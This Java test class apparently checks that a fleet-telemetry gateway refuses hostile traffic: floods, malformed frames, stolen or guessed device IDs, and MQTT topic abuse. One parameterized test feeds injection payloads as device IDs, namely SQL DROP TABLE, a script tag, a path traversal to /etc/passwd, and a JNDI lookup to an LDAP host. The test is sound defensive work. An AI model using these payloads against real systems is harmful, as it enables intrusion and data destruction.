package io.fleetwire.gateway;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.awaitility.Awaitility.await;

import io.fleetwire.event.ConfigEntry.Device;
import io.fleetwire.event.ConfigEntry.Pinned;
import io.fleetwire.event.SecretHash;
import io.fleetwire.event.Telemetry;
import io.fleetwire.event.wire.Topics;
import io.fleetwire.gateway.testing.App5;
import io.fleetwire.gateway.testing.Client;
import io.fleetwire.gateway.testing.Healthy;
import io.fleetwire.protocol.fleetjson.FleetJsonAdapter;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.eclipse.paho.mqttv5.client.IMqttToken;
import org.eclipse.paho.mqttv5.client.MqttConnectionOptions;
import org.eclipse.paho.mqttv5.common.MqttException;
import org.eclipse.paho.mqttv5.common.packet.MqttReturnCode;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * The table of {@code docs/hostile-cases.md}, at a gateway in front of a real Kafka: each case is refused with a reason that is counted, and a device that
 * reports all the while does not notice. 127.0.0.2 is a trusted proxy, so that attackers can come from anywhere.
 */
class HostileTest extends GatewayOnKafka {

    private static final String PROXY = "127.0.0.2";
    private static final long TIMEOUT_MS = 15_000;

    private static Healthy healthy;

    @BeforeAll
    static void start() throws Exception {
        for (String id :
                List.of("healthy", "van", "lorry", "flyer", "fast", "mad", "356307042441013", "texts", "app")) {
            kafka.write(
                    Topics.CONFIG,
                    new Device(
                            id,
                            id,
                            null,
                            Device.Status.ACTIVE,
                            id.equals("app") ? SecretHash.create("right") : null,
                            Map.of(),
                            Instant.EPOCH));
        }
        gateway = TestGateway.with(
                kafka,
                Map.ofEntries(
                        Map.entry("FLEETWIRE_TRUSTED_PROXIES", PROXY),
                        Map.entry("FLEETWIRE_LOGIN_TIMEOUT_S", "3"),
                        Map.entry("FLEETWIRE_FRAME_TIMEOUT_S", "2"),
                        Map.entry("FLEETWIRE_SECOND_SESSION", "refuse"),
                        Map.entry("FLEETWIRE_PINNING", "refuse"),
                        Map.entry("FLEETWIRE_PINNED", "sim,travel,session"),
                        Map.entry("FLEETWIRE_RECORDS_PER_DAY", "20000"),
                        Map.entry("FLEETWIRE_BYTES_PER_SECOND", "20000"),
                        Map.entry("FLEETWIRE_BYTES_BURST", "40000"),
                        Map.entry("FLEETWIRE_BLOCK_S", "600")),
                List.of(new FleetJsonAdapter()));
        healthy = new Healthy(gateway.line, "healthy");
    }

    @AfterAll
    static void stop() throws Exception {
        healthy.close();
    }

    @AfterEach
    void everyoneElseIsUnharmed() {
        healthy.isUnharmed();
    }

    @Test
    void garbage() throws Exception {
        byte[] garbage = new byte[20_000];
        new java.util.Random(7).nextBytes(garbage); // the same in every run
        for (int port : new int[] {gateway.line, gateway.teltonika, gateway.gt06, gateway.obd, gateway.auto}) {
            try (Client scanner = new Client(port)) {
                try {
                    scanner.socket().getOutputStream().write(garbage);
                } catch (IOException closedWhileSending) {
                    // as it should be
                }
                assertThat(scanner.isGone(Duration.ofSeconds(6)))
                        .as("port %d", port)
                        .isTrue();
            }
        }
        assertThat(gateway.closed("malformed") + gateway.closed("unrecognised")).isPositive();
    }

    @ParameterizedTest
    @CsvSource({
        "line, 494420, login_timeout", // "ID "
        "teltonika, 000f3335, login_timeout",
        "gt06, 78780d01, login_timeout",
        "auto, 00, login_timeout"
    })
    void halfAFrameHeldOpen(String listener, String hex, String reason) throws Exception {
        double before = gateway.closed(reason) + gateway.closed("frame_timeout");
        try (Client slow = new Client(port(listener))) {
            slow.hex(hex);
            assertThat(slow.isClosedSilently(Duration.ofSeconds(6))).isTrue();
        }
        assertThat(gateway.closed(reason) + gateway.closed("frame_timeout")).isEqualTo(before + 1);
    }

    @ParameterizedTest
    @ValueSource(strings = {"000000007fffffff", "00000000ffffffff", "0000000080000000"})
    void aHugeLength(String header) throws Exception {
        double before = gateway.closed("malformed");
        try (Client tracker = new Client(gateway.teltonika)) {
            tracker.hex("000f333536333037303432343431303133");
            assertThat(tracker.hears(1)).isEqualTo("01");
            tracker.hex(header + "08");
            assertThat(tracker.isClosedSilently(Duration.ofSeconds(5))).isTrue();
        }
        assertThat(gateway.closed("malformed")).isEqualTo(before + 1);
    }

    @Test
    void aFloodOfConnections() throws Exception {
        List<Client> flood = new ArrayList<>();
        int reset = 0;
        for (int i = 0; i < 400; i++) {
            flood.add(behindProxy("198.51.100." + i % 250));
        }
        for (Client one : flood) {
            reset += one.isGone(Duration.ofMillis(5)) ? 1 : 0;
            one.close();
        }
        assertThat(gateway.limit("network_rate")).isBetween(50.0, 200.0).isGreaterThanOrEqualTo(reset);
    }

    @Test
    void aFloodOfFramesTooSmallToHoldAnything() throws Exception {
        double before = gateway.closed("too_fast");
        try (Client flooder = behindProxy("192.0.2.50")) {
            flooder.line("ID fast");
            assertThat(flooder.hearsLine()).isEqualTo("yes");
            flooder.line("HI\n".repeat(6_000));
            assertThat(flooder.isGone(Duration.ofSeconds(10))).isTrue();
        }
        assertThat(gateway.limit("rate_frames")).isPositive();
        assertThat(gateway.closed("too_fast")).isEqualTo(before + 1);
    }

    @Test
    void moreBytesThanItMaySendMakeItWaitAndLoseNothing() throws Exception {
        try (Client sender = behindProxy("192.0.2.51")) {
            sender.line("ID lorry");
            assertThat(sender.hearsLine()).isEqualTo("yes");
            String padded = "P 1" + " ".repeat(57) + "\n";
            Thread.ofVirtual().start(() -> {
                try {
                    sender.line(padded.repeat(1_000) + "BYE");
                } catch (IOException closed) {
                    // the assertion says so
                }
            });
            int acknowledged = 0;
            for (String answer = sender.hearsLine(); answer.equals("1"); answer = sender.hearsLine()) {
                acknowledged++;
                if (acknowledged == 150) { // the rest would only take its time: ten frames a second
                    break;
                }
            }
            assertThat(acknowledged).isEqualTo(150);
            assertThat(gateway.limit("rate_bytes") + gateway.limit("rate_frames"))
                    .isPositive();
        }
    }

    @Test
    void moreRecordsInADayThanADeviceMayHave() throws Exception {
        try (Client mad = new Client(gateway.line)) {
            assertThat(mad.line("ID mad").hearsLine()).isEqualTo("yes");
            for (int i = 0; i < 20; i++) {
                assertThat(mad.line("P 1000").hearsLine()).isEqualTo("1000");
            }
            assertThat(mad.line("P 1").hearsLine()).isEmpty(); // closed, not acknowledged
        }
        try (Client mad = new Client(gateway.line)) {
            assertThat(mad.line("ID mad").hearsLine()).isEqualTo("no");
        }
        assertThat(gateway.closed("daily_records")).isOne();
        assertThat(gateway.refused("daily_records")).isOne();
    }

    @Test
    void aStolenIdOrAReplayedLoginWhileTheTrueDeviceIsConnected() throws Exception {
        try (Client device = behindProxy("192.0.2.60")) {
            assertThat(device.line("ID van").hearsLine()).isEqualTo("yes");
            double before = gateway.refused("connected_elsewhere");
            try (Client thief = behindProxy("198.18.0.9")) {
                assertThat(thief.line("ID van").hearsLine()).isEqualTo("no"); // the same bytes
            }
            assertThat(gateway.refused("connected_elsewhere")).isEqualTo(before + 1);
            assertThat(device.line("P 1").hearsLine()).isEqualTo("1");
        }
        awaitFlag("van", "session", "192.0.2.60", "198.18.0.9");
    }

    @Test
    void anotherSimIsRefusedUntilSomebodyAcceptsIt() throws Exception {
        try (Client device = new Client(gateway.line)) {
            device.line("ID lorry").hearsLine();
            assertThat(device.line("AT 1000 52.5 13.4 8949000000000000001").hearsLine())
                    .isEqualTo("1000");
        }
        try (Client other = new Client(gateway.line)) {
            other.line("ID lorry").hearsLine();
            assertThat(other.line("AT 2000 52.5 13.4 8949000000000000002").hearsLine())
                    .isEmpty(); // not stored, closed
        }
        awaitFlag("lorry", "sim", "8949000000000000001", "8949000000000000002");
        try (Client either = new Client(gateway.line)) {
            assertThat(either.line("ID lorry").hearsLine()).isEqualTo("no");
        }
        assertThat(gateway.refused("pinned")).isPositive();
        assertThat(times("lorry")).doesNotContain(2000L);

        kafka.write(Topics.CONFIG, pinned("lorry").accepted());
        await().untilAsserted(() -> {
            try (Client other = new Client(gateway.line)) {
                assertThat(other.line("ID lorry").hearsLine()).isEqualTo("yes");
                assertThat(other.line("AT 2001 52.5 13.4 8949000000000000002").hearsLine())
                        .isEqualTo("2001");
            }
        });
    }

    @Test
    void aJourneyThatIsImpossibleAlsoAcrossSessions() throws Exception {
        try (Client berlin = new Client(gateway.line)) {
            berlin.line("ID flyer").hearsLine();
            assertThat(berlin.line("AT 1795255200000 52.52 13.40").hearsLine()).isEqualTo("1795255200000");
        }
        await().untilAsserted(() -> {
            try (Client lisbon = new Client(gateway.line)) { // 2,300 km in an hour
                lisbon.line("ID flyer").hearsLine();
                assertThat(lisbon.line("AT 1795258800000 38.72 -9.14").hearsLine())
                        .isEmpty();
            }
        });
        await().untilAsserted(() -> assertThat(pinned("flyer").flag("travel")).isNotNull());
        assertThat(gateway.metric("fleetwire_gateway_flags_total{trait=\"travel\"}"))
                .isPositive();
    }

    @Test
    void aSearchForIdsBlocksItsAddressButNotTheDevicesThatAreAtHomeThere() throws Exception {
        String carrier = "192.0.2.77";
        try (Client tracker = behindProxy(carrier)) {
            assertThat(tracker.line("ID fast").hearsLine()).isEqualTo("yes");
        }
        for (int i = 0; i < 6; i++) {
            try (Client searcher = behindProxy(carrier)) {
                assertThat(searcher.line("ID guess-" + i).hearsLine()).isEqualTo("no");
            }
        }
        assertThat(gateway.limit("login_block")).isPositive();
        double before = gateway.refused("blocked");
        try (Client searcher = behindProxy(carrier)) {
            assertThat(searcher.line("ID texts").hearsLine()).isEqualTo("no"); // a hit, which it doesn't learn of
        }
        assertThat(gateway.refused("blocked")).isEqualTo(before + 1);
        try (Client tracker = behindProxy(carrier)) {
            assertThat(tracker.line("ID fast").hearsLine()).isEqualTo("yes");
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "'; DROP TABLE fleet.fact_telemetry; --",
                "<script>alert(1)</script>",
                "../../etc/passwd",
                "x\u001b[2Jcleared",
                "${jndi:ldap://192.0.2.1/a}"
            })
    void sqlScriptAndPathsAsADevicesId(String text) throws Exception {
        double before = gateway.refused("no_id");
        try (Client device = new Client(gateway.line)) {
            assertThat(device.line("ID " + text.replace(' ', '_')).hearsLine()).isEqualTo("no");
        }
        try (App5 app = new App5(gateway.mqtt, "hostile")) {
            assertThatThrownBy(() -> app.connect(options(text, "x")).waitForCompletion(TIMEOUT_MS))
                    .isInstanceOf(MqttException.class);
        }
        // The broker itself refuses a name with a control character.
        assertThat(gateway.refused("no_id")).isEqualTo(before + (text.indexOf('\u001b') >= 0 ? 1 : 2));
    }

    @Test
    void sqlAndScriptInAValueIsKeptAsItIsAndNothingElse() throws Exception {
        String text = "'); DROP TABLE fleet.fact_telemetry; -- <script>alert(1)</script>";
        String json = "{\"deviceTime\":\"2026-11-21T10:00:00Z\",\"attributes\":{\"note\":\"" + text + "\"}}";
        try (App5 app = new App5(gateway.mqtt, "hostile")) {
            app.connect(options("app", "right")).waitForCompletion(TIMEOUT_MS);
            app.publish("fleet/v1/app/telemetry", json.getBytes(StandardCharsets.UTF_8), 1, false)
                    .waitForCompletion(TIMEOUT_MS);
        }
        assertThat(kafka.values(Topics.TELEMETRY_RAW))
                .filteredOn(record -> record.attributes().containsKey("note"))
                .singleElement()
                .extracting(record -> record.attributes().get("note"))
                .isEqualTo(text);
    }

    @Test
    void anAnonymousClientAForeignTopicAndAWildcardOnMqtt() throws Exception {
        try (App5 nobody = new App5(gateway.mqtt, "nobody")) {
            assertThatThrownBy(() -> nobody.connect(new MqttConnectionOptions()).waitForCompletion(TIMEOUT_MS))
                    .isInstanceOf(MqttException.class);
        }
        double before = gateway.refused("topic");
        try (App5 app = new App5(gateway.mqtt, "app")) {
            app.connect(options("app", "right")).waitForCompletion(TIMEOUT_MS);
            IMqttToken wildcard = app.subscribe("fleet/v1/#", 1);
            wildcard.waitForCompletion(TIMEOUT_MS);
            assertThat(wildcard.getReasonCodes()).containsExactly(MqttReturnCode.RETURN_CODE_NOT_AUTHORIZED);
        }
        try (App5 app = new App5(gateway.mqtt, "app")) {
            app.connect(options("app", "right")).waitForCompletion(TIMEOUT_MS);
            byte[] position = "{\"deviceTime\":9}".getBytes(StandardCharsets.UTF_8);
            IMqttToken foreign = app.publish("fleet/v1/healthy/telemetry", position, 1, false);
            foreign.waitForCompletion(TIMEOUT_MS);
            assertThat(foreign.getReasonCodes()).containsExactly(MqttReturnCode.RETURN_CODE_NOT_AUTHORIZED);
        }
        assertThat(gateway.refused("topic")).isEqualTo(before + 2); // the wildcard, and the foreign topic
        assertThat(times("healthy")).doesNotContain(9L);
    }

    private static MqttConnectionOptions options(String user, String password) {
        MqttConnectionOptions options = new MqttConnectionOptions();
        options.setAutomaticReconnect(false);
        options.setUserName(user);
        options.setPassword(password.getBytes(StandardCharsets.UTF_8));
        return options;
    }

    private static Client behindProxy(String address) throws IOException {
        return Client.from(PROXY, gateway.line).line("PROXY TCP4 " + address + " 192.0.2.1 40000 7001\r");
    }

    private static int port(String listener) {
        return switch (listener) {
            case "line" -> gateway.line;
            case "teltonika" -> gateway.teltonika;
            case "gt06" -> gateway.gt06;
            default -> gateway.auto;
        };
    }

    private static void awaitFlag(String id, String what, String expected, String seen) {
        await().untilAsserted(() -> assertThat(pinned(id).flag(what))
                .isNotNull()
                .satisfies(flag ->
                        assertThat(List.of(flag.expected(), flag.seen())).containsExactly(expected, seen)));
    }

    private static Pinned pinned(String id) throws Exception {
        return kafka.values(Topics.CONFIG).stream()
                .filter(Pinned.class::isInstance)
                .map(Pinned.class::cast)
                .filter(pinned -> pinned.deviceId().equals(id))
                .reduce((earlier, later) -> later)
                .orElse(Pinned.nothing(id));
    }

    private static List<Long> times(String id) throws Exception {
        return kafka.values(Topics.TELEMETRY_RAW).stream()
                .filter(record -> record.deviceId().equals(id))
                .map(Telemetry::deviceTimeMs)
                .toList();
    }
}
